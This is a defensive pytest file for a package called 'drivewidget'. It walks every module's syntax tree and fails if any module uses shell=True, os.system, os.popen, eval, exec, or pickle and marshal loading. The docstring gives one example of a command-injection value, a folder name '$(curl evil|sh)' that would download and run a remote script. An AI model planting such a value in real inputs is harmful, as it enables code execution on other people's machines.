"""The package as a whole: no name from the drive or a secret ever passes through a shell or an evaluator.

Folder names come from collaborators and passwords from the user; a single ``shell=True``
or ``os.system`` anywhere would let a name like ``$(curl evil|sh)`` run. Checked on the
source of every module, so a new one is covered the day it is added.
"""

from __future__ import annotations

import ast
from pathlib import Path

import pytest

import drivewidget

PACKAGE = Path(drivewidget.__file__).resolve().parent
MODULES = sorted(PACKAGE.rglob("*.py"))


def _calls(tree: ast.AST) -> list[ast.Call]:
    return [node for node in ast.walk(tree) if isinstance(node, ast.Call)]


@pytest.mark.parametrize("module", MODULES, ids=lambda p: str(p.relative_to(PACKAGE)))
def test_no_shell_anywhere(module: Path) -> None:
    """No ``shell=True``, ``os.system`` or ``os.popen``: arguments go to programs as a list."""
    tree = ast.parse(module.read_text())
    for call in _calls(tree):
        for keyword in call.keywords:
            if keyword.arg == "shell":
                assert isinstance(keyword.value, ast.Constant) and keyword.value.value is False, (
                    f"{module}:{call.lineno} uses shell=True"
                )
        func = call.func
        if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name) and func.value.id == "os":
            assert func.attr not in {"system", "popen"}, f"{module}:{call.lineno} uses os.{func.attr}"


@pytest.mark.parametrize("module", MODULES, ids=lambda p: str(p.relative_to(PACKAGE)))
def test_nothing_read_from_the_drive_is_evaluated(module: Path) -> None:
    """No ``eval`` / ``exec`` and no ``pickle`` / ``marshal`` loading: a settings file planted
    on the drive is parsed as JSON, never run."""
    tree = ast.parse(module.read_text())
    for call in _calls(tree):
        func = call.func
        if isinstance(func, ast.Name):
            assert func.id not in {"eval", "exec"}, f"{module}:{call.lineno} calls {func.id}"
        if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name):
            assert not (func.value.id in {"pickle", "marshal"} and func.attr.startswith("load")), (
                f"{module}:{call.lineno} loads {func.value.id}"
            )
